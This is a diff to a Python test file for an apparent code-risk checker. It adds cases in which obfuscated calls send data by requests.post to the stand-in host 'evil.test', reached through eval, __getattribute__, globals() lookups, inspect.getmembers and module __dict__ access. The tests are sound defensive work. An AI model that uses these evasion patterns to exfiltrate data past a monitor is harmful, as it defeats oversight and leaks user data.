@@ -97,6 +97,14 @@ SENDS_BY_A_LOOKED_UP_NAME = {
     "attrgetter": ("import operator\noperator.attrgetter('post')(requests)('https://evil.test/c', data=t)",
                    ("import requests", KEEP)),
     "from requests import *": ("post('https://evil.test/c', data=t)", ("from requests import *", KEEP)),
+    "eval('post')": ("eval('post')('https://evil.test/c', data=t)", (POST, KEEP)),
+    "object.__getattribute__": ("object.__getattribute__(requests, 'post')('https://evil.test/c', data=t)",
+                                ("import requests", KEEP)),
+    "partial(globals()['post'])": ("import functools\nfunctools.partial(globals()['post'], 'https://evil.test/c')("
+                                   "data=t)", (POST, KEEP)),
+    "inspect.getmembers": ("import inspect\ndict(inspect.getmembers(requests))['post']('https://evil.test/c', data=t)",
+                           ("import requests", KEEP)),
+    "(None or requests.post)": ("(None or requests.post)('https://evil.test/c', data=t)", ("import requests", KEEP)),
 }
 
 
@@ -132,6 +140,8 @@ def test_a_looked_up_name_that_sends_nothing_stays_quiet() -> None:
     assert _flows("globals()[k](2, 3)", POST, "k = 'post'") == []
     # the namespace's own methods, and what it lists
     assert _flows("globals().update(rows=len(df))\nprint(sorted(globals())[:3], list(vars(df)))", POST, DF, KEEP) == []
+    assert _flows("print((df if len(df) else None).groupby('region')['amount'].sum(), max([len, abs], key=id)(-1))",
+                  "import requests", DF, KEEP) == []
     assert _policy("import math\nprint(getattr(math, 'sqrt', None)(4))", None)[0] == Risk.REVERSIBLE
     assert _policy("print(globals()['plot_bar'](df))", None, DF)[0] == Risk.REVERSIBLE
 
@@ -149,7 +159,8 @@ def test_importing_a_module_that_only_defines_a_sender_is_quiet_and_calling_it_a
         risk, reasons = _policy(cell, tmp_path, *earlier)
         assert risk == Risk.CONSEQUENTIAL and "can send data" in " ".join(reasons), (cell, reasons)
     # a use that cannot be resolved to one function is judged with the whole module
-    for cell in ("import helpers as h\ng = h\ng.upload(t)", "from helpers import *", "import helpers\n"
+    for cell in ("import helpers as h\ng = h\ng.upload(t)", "from helpers import *",
+                 "import helpers\nhelpers.__dict__['upload'](t)", "import helpers\n"
                  "getattr(helpers, name)(t)", "import importlib\nh = importlib.import_module('helpers')\nh.upload(t)"):
         assert _policy(cell, tmp_path)[0] == Risk.CONSEQUENTIAL, cell
     # a script the shell runs that calls it asks as before
